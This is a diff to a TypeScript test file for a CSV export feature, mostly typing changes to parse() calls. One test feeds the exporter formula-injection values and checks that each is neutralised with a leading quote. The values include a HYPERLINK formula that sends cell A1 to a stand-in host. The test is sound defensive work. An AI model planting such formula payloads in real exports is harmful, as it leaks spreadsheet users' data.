@@ -10,7 +10,7 @@ describe('CSV export', () => {
     const text = toCsv(['a', 'b', 'c', 'd', 'e'], [tricky, [1, 2.5, true, null, undefined]]);
     assert.ok(text.startsWith('\ufeff'), 'UTF-8 byte-order mark for Excel');
     assert.ok(text.startsWith('\ufeffa;b;c;d;e\r\n'), '";" between cells, CRLF after the header');
-    const rows = parse(text, { bom: true, delimiter: ';' }) as string[][];
+    const rows = parse(text, { bom: true, delimiter: ';' });
     assert.deepEqual(rows[0], ['a', 'b', 'c', 'd', 'e']);
     assert.deepEqual(rows[1], tricky);
     // Numbers stay numbers, with the decimal comma French Excel reads.
@@ -20,7 +20,9 @@ describe('CSV export', () => {
   it('neutralises cells a spreadsheet would run as formulas (OWASP), and keeps phone numbers as text', () => {
     const hostile = ['=HYPERLINK("http://x.example/?"&A1;"clic")', '+SUM(1;2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', 'Koné'];
     const text = toCsv(['v'], [...hostile.map((h) => [h]), [-3], [asText('+223 76 12 34 56')], [asText('0076123456')], [asText('=1+1')]]);
-    const cells = (parse(text, { bom: true, delimiter: ';', relax_column_count: true }) as string[][]).slice(1).map((r) => r[0]!);
+    const cells = parse(text, { bom: true, delimiter: ';', relax_column_count: true })
+      .slice(1)
+      .map((r) => r[0]!);
     for (let i = 0; i < hostile.length - 1; i += 1) assert.equal(cells[i], `'${hostile[i]}`, `cell ${i} starts with a quote mark`);
     assert.equal(cells[hostile.length - 1], 'Koné', 'ordinary text untouched');
     assert.equal(cells[hostile.length], '-3', 'a negative number is a number, not a formula');
@@ -31,7 +33,7 @@ describe('CSV export', () => {
 
   it('exports the indicators with every disaggregation', () => {
     const report = computeIndicators(fixtureSources(), monthRange('2026-11'));
-    const rows = parse(indicatorsCsv(report, 'kayes-01'), { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
+    const rows = parse<Record<string, string>>(indicatorsCsv(report, 'kayes-01'), { bom: true, columns: true, delimiter: ';' });
     assert.equal(rows.length, 6);
     const trained = rows.find((r) => r.indicateur === 'trained')!;
     assert.equal(trained['libellé'], 'Personnes formées');
